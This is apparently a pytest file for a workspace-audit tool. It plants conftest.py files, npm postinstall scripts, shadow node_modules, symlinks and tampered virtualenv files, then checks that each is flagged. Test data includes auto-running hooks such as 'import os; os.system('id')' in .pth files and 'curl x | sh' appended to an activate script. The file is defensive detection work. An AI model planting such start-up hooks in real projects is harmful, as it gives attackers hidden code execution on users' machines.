"""A directory is a dependency tree because its tool left its record there, never because of its name
(issue 32): a conftest.py under tests/vendor/ or tests/site-packages/, a workspace package under
packages/site-packages/, code in a node_modules no package manager made, each get the rules any
file there gets; a tree its tool really made (a real venv and a real `pip install`, a real
`npm install`) stays one quiet finding. Each attack beside its benign neighbour, through the same
code as after a session (capture, then audit_mount); where the host would run the planted code, the
test runs the host's command and sees it run."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from dejima.core.audit import rank
from dejima.core.audit.venv_facts import VenvFacts
from dejima.orchestration.exit_audit import Mount, audit_mount, capture
from tests import venvs
from tests.wheels import record_hash, wheel

Found = list[tuple[str, str, str]]


def write(root: Path, path: str, text: str) -> Path:
    target = root / path
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    return target


def audited(root: Path, change: Callable[[Path], object], facts: VenvFacts | None = None) -> Found:
    """The findings of a session that made ``change``; ``facts``: the session image's record of
    what venv writes (None: none, an environment's own files are not verified)."""
    root.mkdir(parents=True, exist_ok=True)
    state = capture(Mount("workspace", root))
    change(root)
    found, _ = audit_mount(state, venvs=facts)
    return [(f.rule, f.severity, f.path) for f in found]


def at_least_low(found: Found) -> Found:
    return [f for f in found if rank(f[1]) >= rank("low")]


def conftest(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()\n"


# --- conftest.py under directories named like trees -------------------------------------------------

@pytest.mark.parametrize("directory", ["tests/vendor", "tests/site-packages", "tests/node_modules/x", "vendor"])
def test_a_conftest_under_a_directory_named_like_a_tree_is_a_conftest(tmp_path: Path, directory: str) -> None:
    ran = tmp_path / "ran"
    found = audited(tmp_path / "repo", lambda root: write(root, f"{directory}/conftest.py", conftest(ran)))
    assert ("B09", "high", f"{directory}/conftest.py") in found  # pytest's rule, as anywhere else
    if "node_modules" not in directory:  # pytest does not look into node_modules (norecursedirs)
        subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", str(tmp_path / "repo")],
                       capture_output=True, check=False)
        assert ran.exists(), "pytest on the host runs the planted conftest.py"


def go_vendor(root: Path) -> None:
    """What `go mod vendor` leaves: vendor/modules.txt beside go.mod, the modules' sources."""
    write(root, "vendor/modules.txt", "# example.com/x v1.0.0\n## explicit\nexample.com/x\n")
    write(root, "vendor/example.com/x/x.go", "package x\n")


def test_a_vendor_directory_go_made_is_one_low_finding(tmp_path: Path) -> None:
    write(tmp_path / "repo", "go.mod", "module example.com/p\n\ngo 1.22\n")
    assert at_least_low(audited(tmp_path / "repo", go_vendor)) == [("B07", "low", "vendor")]


def record_listing(directory: str, files: dict[str, str]) -> Callable[[Path], None]:
    """A dist-info RECORD that lists these files with their true hashes, as pip writes one."""
    def change(root: Path) -> None:
        for name, text in files.items():
            write(root, f"{directory}/{name}", text)
        lines = "".join(f"{name},{record_hash(text.encode())},{len(text)}\n" for name, text in files.items())
        write(root, f"{directory}/x-1.0.dist-info/RECORD", lines + "x-1.0.dist-info/RECORD,,\n")
    return change


def test_a_record_put_in_a_directory_that_was_there_does_not_make_it_a_tree(tmp_path: Path) -> None:
    """A RECORD listing the planted conftest.py with its true hash, in tests/ (there at the start):
    not a pip --target install, whose records come with their directory or were there before."""
    write(tmp_path / "repo", "tests/test_x.py", "def test_x(): pass\n")
    found = audited(tmp_path / "repo", record_listing("tests", {"conftest.py": "import os\n"}))
    assert ("B09", "high", "tests/conftest.py") in found


def test_a_conftest_in_a_tree_pytest_walks_into_is_a_conftest(tmp_path: Path) -> None:
    """pytest skips node_modules and environments, not cargo's output or a vendor directory: a
    conftest.py there runs like any other, whatever tree it is in."""
    write(tmp_path / "a", "go.mod", "module example.com/p\n")
    go_vendor(tmp_path / "a")
    write(tmp_path / "b", "Cargo.toml", '[package]\nname = "p"\nversion = "0.1.0"\n')
    write(tmp_path / "b", "target/.rustc_info.json", "{}")
    assert ("B09", "high", "vendor/conftest.py") in audited(
        tmp_path / "a", lambda root: write(root, "vendor/conftest.py", "import os\n"))
    assert ("B09", "high", "target/debug/conftest.py") in audited(
        tmp_path / "b", lambda root: write(root, "target/debug/conftest.py", "import os\n"))


def test_a_planted_pyvenv_cfg_does_not_hide_a_conftest(tmp_path: Path) -> None:
    """A record can be planted like any file: in what then is an environment, a file no RECORD
    lists is not what an installer writes. Its neighbour: a real venv made in the session, low
    (held to the record of what this Python's venv writes)."""
    def planted(root: Path) -> None:
        write(root, "tests/vendor/pyvenv.cfg", "home = /usr/bin\n")
        write(root, "tests/vendor/conftest.py", "import os\n")

    def venv(root: Path) -> None:
        subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(root / "tests/vendor")], check=True)

    assert at_least_low(audited(tmp_path / "a", planted)) == [("B10", "high", "tests/vendor")]
    assert at_least_low(audited(tmp_path / "b", venv, venvs.here())) == [("B10", "low", "tests/vendor")]


# --- workspace packages named like trees --------------------------------------------------------------

@pytest.mark.parametrize("name", ["site-packages", "vendor", "node_modules"])
def test_a_workspace_packages_install_script_is_found_whatever_its_directory_is_called(tmp_path: Path,
                                                                                     name: str) -> None:
    def package(scripts: dict[str, str]) -> Callable[[Path], None]:
        def change(root: Path) -> None:
            write(root, "package.json", json.dumps({"name": "p", "workspaces": ["packages/*"]}))
            write(root, f"packages/{name}/package.json", json.dumps({"name": name, "version": "1.0.0",
                                                                     "scripts": scripts}))
        return change

    attack = audited(tmp_path / "a", package({"postinstall": "node setup.js"}))
    assert ("B01", "high", f"packages/{name}/package.json") in attack  # runs at the host's next npm install
    benign = [f for f in at_least_low(audited(tmp_path / "b", package({}))) if f[2].startswith("packages/")]
    # A package without scripts is quiet; one in a node_modules npm did not make is loaded by require().
    assert benign == ([("B07", "high", "packages/node_modules")] if name == "node_modules" else [])


# --- node_modules that no package manager made ---------------------------------------------------------

def node_project(root: Path) -> None:
    write(root, "package.json", json.dumps({"name": "p", "dependencies": {"x": "1.0.0"}}))
    lock = {"name": "p", "lockfileVersion": 3, "packages": {"": {}, "node_modules/x": {"version": "1.0.0"}}}
    write(root, "package-lock.json", json.dumps(lock))
    write(root, "node_modules/.package-lock.json", json.dumps(lock))
    write(root, "node_modules/x/package.json", '{"name": "x", "version": "1.0.0"}')
    write(root, "node_modules/x/index.js", "module.exports = 'installed';\n")


def test_code_in_a_node_modules_no_package_manager_made_is_high(tmp_path: Path) -> None:
    node_project(tmp_path / "repo")

    def shadow(root: Path) -> None:
        write(root, "src/node_modules/x/index.js", "module.exports = 'planted';\n")
        write(root, "src/app.js", "console.log(require('x'));\n")

    found = audited(tmp_path / "repo", shadow)
    assert ("B07", "high", "src/node_modules") in found
    if shutil.which("node"):
        ran = subprocess.run(["node", "src/app.js"], cwd=tmp_path / "repo", capture_output=True, text=True, check=True)
        assert ran.stdout.strip() == "planted", "node on the host loads the planted package"


@pytest.mark.parametrize("link", ["node_modules", "src/node_modules"])
def test_a_link_named_node_modules_to_planted_code_is_high(tmp_path: Path, link: str) -> None:
    """The same code behind a link called node_modules, to a directory with no such name (whose .js
    files no rule watches): require() follows it. It was no finding at all."""
    def shadow(root: Path) -> None:
        write(root, "third_party/nm/x/index.js", "module.exports = 'planted';\n")
        write(root, "src/app.js", "console.log(require('x'));\n")
        os.symlink(os.path.relpath(root / "third_party/nm", (root / link).parent), root / link)

    write(tmp_path / "repo", "package.json", json.dumps({"name": "p", "dependencies": {"x": "1.0.0"}}))
    found = audited(tmp_path / "repo", shadow)
    assert ("B07", "high", link) in found
    if shutil.which("node"):
        ran = subprocess.run(["node", "src/app.js"], cwd=tmp_path / "repo", capture_output=True, text=True, check=True)
        assert ran.stdout.strip() == "planted", "node on the host loads the planted package"


def test_a_package_installed_in_npms_tree_is_low_and_a_workspace_packages_own_tree_too(tmp_path: Path) -> None:
    """Beside the attack above: npm's tree (its .package-lock.json), and a workspace package's own
    node_modules that the hidden lockfile lists by path, where npm puts what it cannot hoist."""
    def install(root: Path) -> None:  # npm writes both lockfiles alike
        lock = json.loads((root / "node_modules/.package-lock.json").read_text())
        lock["packages"]["packages/a/node_modules/y"] = {"version": "2.0.0"}
        lock["packages"]["node_modules/z"] = {"version": "1.0.0"}
        write(root, "node_modules/.package-lock.json", json.dumps(lock))
        write(root, "package-lock.json", json.dumps(lock))
        write(root, "packages/a/node_modules/y/package.json", '{"name": "y", "version": "2.0.0"}')
        write(root, "packages/a/node_modules/y/index.js", "module.exports = 2;\n")
        write(root, "node_modules/z/package.json", '{"name": "z", "version": "1.0.0"}')
        write(root, "node_modules/z/index.js", "module.exports = 3;\n")

    node_project(tmp_path / "repo")
    # Both trees recognised, each its own finding; medium, not low, since the packages were pinned in
    # the session without an integrity: nothing to verify them against (npm_verify).
    assert sorted(at_least_low(audited(tmp_path / "repo", install))) == [
        ("B07", "medium", "node_modules"), ("B07", "medium", "packages/a/node_modules")]


def pnpm_project(root: Path) -> None:
    write(root, "package.json", '{"name": "mono", "private": true}')
    write(root, "pnpm-workspace.yaml", "packages:\n  - 'packages/*'\n")
    for name in ("a", "b"):
        write(root, f"packages/{name}/package.json", json.dumps({"name": name, "version": "1.0.0"}))


def pnpm_install(root: Path) -> None:
    """What `pnpm install` leaves in a workspace: its record and store in the root node_modules, and
    in each workspace package a node_modules of links into that store and to sibling packages."""
    write(root, "node_modules/.modules.yaml", "layoutVersion: 5\n")
    write(root, "node_modules/.pnpm/is-odd@3.0.1/node_modules/is-odd/package.json", '{"name": "is-odd"}')
    write(root, "node_modules/.pnpm/is-odd@3.0.1/node_modules/is-odd/index.js", "module.exports = 1;\n")
    (root / "packages/a/node_modules").mkdir()
    os.symlink("../../../node_modules/.pnpm/is-odd@3.0.1/node_modules/is-odd", root / "packages/a/node_modules/is-odd")
    os.symlink("../../b", root / "packages/a/node_modules/b")


def test_a_pnpm_workspace_is_npm_trees_and_a_link_out_of_the_project_is_not(tmp_path: Path) -> None:
    def escape(root: Path) -> None:
        pnpm_install(root)
        os.symlink("../../../../outside", root / "packages/a/node_modules/evil")

    pnpm_project(tmp_path / "a")
    pnpm_project(tmp_path / "b")
    assert sorted(at_least_low(audited(tmp_path / "a", pnpm_install))) == [
        ("B07", "low", "node_modules"), ("B07", "low", "packages/a/node_modules")]
    assert ("B07", "high", "packages/a/node_modules") in audited(tmp_path / "b", escape)


def test_a_tree_inside_another_is_judged_on_its_own(tmp_path: Path) -> None:
    """An environment a package's build made inside npm's tree: each tree its own finding, and what
    no installer writes in the inner one is its finding, not the outer one's."""
    def build(planted: bool) -> Callable[[Path], None]:
        def change(root: Path) -> None:
            write(root, "node_modules/x/package.json", '{"name": "x", "version": "1.0.0"}')
            write(root, "node_modules/x/.venv/pyvenv.cfg", "home = /usr/bin\n")
            write(root, "node_modules/x/.venv/bin/activate", "# made by venv\n")
            if planted:
                write(root, "node_modules/x/.venv/lib/python3.11/site-packages/x.pth", "import os; os.system('id')\n")
        return change

    node_project(tmp_path / "a")
    node_project(tmp_path / "b")
    # The outer tree is medium either way: its package's tarball is in no cache, so it cannot be verified;
    # so is the inner one untouched: with no record of the image's venv its own files are not verified.
    assert sorted(at_least_low(audited(tmp_path / "a", build(planted=True)))) == [
        ("B07", "medium", "node_modules"), ("B10", "high", "node_modules/x/.venv")]
    assert sorted(at_least_low(audited(tmp_path / "b", build(planted=False)))) == [
        ("B07", "medium", "node_modules"), ("B10", "medium", "node_modules/x/.venv")]


def test_a_real_npm_install_is_one_finding_twice(tmp_path: Path) -> None:
    """`npm install` of a local package, offline (its cache in the test's directory), then again in
    a second session after the user added another: npm's tree each time, one finding, medium: a
    `file:` dependency carries no integrity, so nothing verifies it (tests/unit/test_npm_verify.py has
    the verified installs, low)."""
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed")
    repo = tmp_path / "repo"

    def npm_install(root: Path) -> None:
        subprocess.run(["npm", "install", "--offline", "--no-audit", "--no-fund", "--install-links"], cwd=root,
                       check=True, capture_output=True, env={**os.environ, "npm_config_cache": str(tmp_path / "cache")})

    dependencies = {}
    for name in ("dep", "dep2"):
        write(tmp_path, f"{name}/package.json", f'{{"name": "{name}", "version": "1.0.0", "main": "index.js"}}')
        write(tmp_path, f"{name}/index.js", "module.exports = 1;\n")
        dependencies[name] = f"file:../{name}"
        write(repo, "package.json", json.dumps({"name": "app", "version": "1.0.0", "dependencies": dependencies}))
        assert at_least_low(audited(repo, npm_install)) == [("B07", "medium", "node_modules")]


# --- a real environment, a real pip install --------------------------------------------------------------

def pip(python: Path, *arguments: str) -> None:
    """pip of that interpreter, offline and without the machine's pip configuration."""
    subprocess.run([str(python), "-m", "pip", "install", "-q", "--no-index", "--disable-pip-version-check",
                    *arguments], check=True, env={**os.environ, "PIP_NO_CACHE_DIR": "1", "PIP_CONFIG_FILE": os.devnull})


@pytest.fixture(scope="module")
def tiny(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return wheel(tmp_path_factory.mktemp("wheel"))


def pip_install(tiny: Path, *options: str) -> Callable[[Path], None]:
    def change(root: Path) -> None:
        if not options:
            subprocess.run([sys.executable, "-m", "venv", str(root / ".venv")], check=True)
        pip(root / ".venv/bin/python" if not options else Path(sys.executable), *options, str(tiny))
    return change


@pytest.fixture(scope="module")
def installed(tmp_path_factory: pytest.TempPathFactory, tiny: Path) -> tuple[Path, Found]:
    """A workspace where the session ran `python -m venv .venv` and `pip install` (once a module: the
    venv's own pip takes seconds), and what the audit found."""
    root = tmp_path_factory.mktemp("venv") / "repo"
    return root, audited(root, pip_install(tiny))


def test_a_new_venv_with_a_real_pip_install_is_medium_at_most(installed: tuple[Path, Found]) -> None:
    """No uv.lock at the start pins what pip installed: unverified (test_python_verify holds one to it)."""
    _, found = installed
    assert at_least_low(found) == [("B10", "medium", ".venv")]


def copy_of(installed: tuple[Path, Found], tamper: Callable[[Path], object]) -> Callable[[Path], None]:
    """The same environment (its files copied byte for byte), then changed as an agent would."""
    def change(root: Path) -> None:
        shutil.copytree(installed[0] / ".venv", root / ".venv", symlinks=True)
        tamper(root / ".venv")
    return change


def appended(venv: Path) -> None:
    with next(venv.glob("lib/python3*/site-packages/tiny/__init__.py")).open("a") as file:
        file.write("import os; os.system('id')\n")


def interpreter_link(venv: Path) -> None:
    (venv / "bin/python").unlink()
    os.symlink("../../tools/python", venv / "bin/python")


# What no installer writes in an environment it made; each found beside the same install unchanged.
TAMPERING: dict[str, Callable[[Path], object]] = {
    "a line appended to an installed module": appended,
    "a .pth that runs code": lambda venv: write(next(venv.glob("lib/python3*/site-packages")), "zz.pth",
                                                "import os; os.system('id')\n"),
    "a conftest.py": lambda venv: write(venv, "conftest.py", ""),
    "the interpreter linked into the workspace": interpreter_link,
    "a link in site-packages": lambda venv: os.symlink("/tmp/x.py", next(venv.glob("lib/python3*/site-packages")) /
                                                       "x.py"),
}


@pytest.mark.parametrize("tamper", TAMPERING.values(), ids=TAMPERING.keys())
def test_what_no_installer_writes_in_a_real_venv_is_high(tmp_path: Path, installed: tuple[Path, Found],
                                                         tamper: Callable[[Path], object]) -> None:
    assert at_least_low(audited(tmp_path, copy_of(installed, tamper))) == [("B10", "high", ".venv")]


def test_the_same_venv_unchanged_is_medium(tmp_path: Path, installed: tuple[Path, Found]) -> None:
    assert at_least_low(audited(tmp_path, copy_of(installed, lambda venv: None))) == [("B10", "medium", ".venv")]


def editable(directory: Path, pth: str) -> Path:
    """What setuptools' editable install hands pip: a .pth (its finder's import line, or a path) and
    the finder module."""
    finder = b"import sys\nMAPPING = {'tiny2': '/work/project/tiny2'}\ndef install():\n    pass\n"
    return wheel(directory, "tiny2", "0.1", {"__editable__.tiny2-0.1.pth": pth.encode(),
                                             "__editable___tiny2_0_1_finder.py": finder})


def test_installing_again_into_a_venv_that_was_there_is_medium(tmp_path: Path, installed: tuple[Path, Found]) -> None:
    """pip a second time: an upgrade, and an editable install with setuptools' finder, and one of a
    src layout (a path .pth), each with its RECORD: what an installer writes."""
    root = tmp_path / "repo"
    copy_of(installed, lambda venv: None)(root)
    finder = editable(tmp_path, "import __editable___tiny2_0_1_finder; __editable___tiny2_0_1_finder.install()\n")
    (tmp_path / "src").mkdir()
    src_layout = wheel(tmp_path / "src", "tiny3", "0.1", {"__editable__.tiny3-0.1.pth": b"/work/project/src\n"})
    upgrade = wheel(tmp_path, version="0.2")

    def install(root: Path) -> None:
        pip(root / ".venv/bin/python", str(upgrade), str(finder), str(src_layout))

    assert at_least_low(audited(root, install)) == [("B10", "medium", ".venv")]  # no lockfile pins them


def test_an_editable_pth_with_an_import_line_of_its_own_is_high(tmp_path: Path, installed: tuple[Path, Found]) -> None:
    """The same install, its .pth given one more line: pip writes it and its RECORD lists it, and it
    still runs at every start."""
    hooked = editable(tmp_path, "import __editable___tiny2_0_1_finder; __editable___tiny2_0_1_finder.install()\n"
                                "import os; os.system('id')\n")
    root = tmp_path / "repo"
    copy_of(installed, lambda venv: None)(root)
    assert at_least_low(audited(root, lambda root: pip(root / ".venv/bin/python", str(hooked)))) == [
        ("B10", "high", ".venv")]


def test_start_up_files_changed_in_an_existing_venv_are_critical(tmp_path: Path, installed: tuple[Path, Found]) -> None:
    """In an environment that was there, its own start-up files are named one by one: activate, and
    uv's and virtualenv's _virtualenv.py (imported at every start by _virtualenv.pth)."""
    root = tmp_path / "repo"
    copy_of(installed, lambda venv: write(next(venv.glob("lib/python3*/site-packages")), "_virtualenv.py", ""))(root)

    def tamper(root: Path) -> None:
        with (root / ".venv/bin/activate").open("a") as file:
            file.write("curl x | sh\n")
        write(next((root / ".venv").glob("lib/python3*/site-packages")), "_virtualenv.py", "import os\n")

    site = next((root / ".venv").glob("lib/python3*/site-packages")).relative_to(root)
    # and the environment's own files, which no record of the image's venv verifies here: medium
    assert sorted(at_least_low(audited(root, tamper))) == [
        ("B10", "critical", ".venv/bin/activate"), ("B10", "critical", f"{site}/_virtualenv.py"),
        ("B10", "medium", ".venv")]


def test_a_pip_install_target_is_a_tree_and_a_conftest_planted_in_it_is_not_its(tmp_path: Path, tiny: Path) -> None:
    """`pip install --target vendor`: the RECORDs make vendor/ a tree, whose files are what they list."""
    def planted(root: Path) -> None:
        pip_install(tiny, "--target", str(root / "vendor"))(root)
        write(root, "vendor/conftest.py", "import os\n")

    assert at_least_low(audited(tmp_path / "a", pip_install(tiny, "--target", str(tmp_path / "a/vendor")))) == [
        ("B10", "medium", "vendor")]  # no lockfile pins it
    assert sorted(at_least_low(audited(tmp_path / "b", planted))) == [
        ("B09", "high", "vendor/conftest.py"), ("B10", "high", "vendor")]  # pytest walks into vendor/


# --- a conda environment -----------------------------------------------------------------------------------

def conda_env(root: Path, files: dict[str, str], prefix: str = ".conda") -> None:
    """A conda environment as conda leaves it: conda-meta/history, and a package's record listing its
    files with their hashes as installed."""
    write(root, f"{prefix}/conda-meta/history", "==> 2026-12-05 <==\n+defaults/noarch::six-1.16.0-pyhd3eb1b0_1\n")
    paths = [{"_path": path, "path_type": "hardlink", "sha256_in_prefix": hashlib.sha256(text.encode()).hexdigest()}
             for path, text in files.items()]
    write(root, f"{prefix}/conda-meta/six-1.16.0-pyhd3eb1b0_1.json",
          json.dumps({"name": "six", "files": list(files), "paths_data": {"paths_version": 1, "paths": paths}}))
    for path, text in files.items():
        write(root, f"{prefix}/{path}", text)


SIX_CONDA = {"lib/python3.11/site-packages/six.py": "import sys\n", "bin/six-tool": "#!/bin/sh\n"}


def test_a_conda_environment_is_a_tree_and_what_no_package_lists_in_it_is_high(tmp_path: Path) -> None:
    """Known by conda-meta/history, not by the name .conda: what its packages' records list is an
    install (low), a conftest.py they do not list is high, and so is a listed file changed after."""
    def planted(root: Path) -> None:
        conda_env(root, SIX_CONDA)
        write(root, ".conda/conftest.py", "import os\n")

    assert at_least_low(audited(tmp_path / "a", lambda root: conda_env(root, SIX_CONDA))) == [
        ("B10", "low", ".conda")]
    assert at_least_low(audited(tmp_path / "b", planted)) == [("B10", "high", ".conda")]
    conda_env(tmp_path / "c", SIX_CONDA, "envs/dev")
    assert at_least_low(audited(tmp_path / "c", lambda root: write(
        root, "envs/dev/lib/python3.11/site-packages/six.py", "import os; os.system('id')\n"))) == [
        ("B10", "high", "envs/dev")]

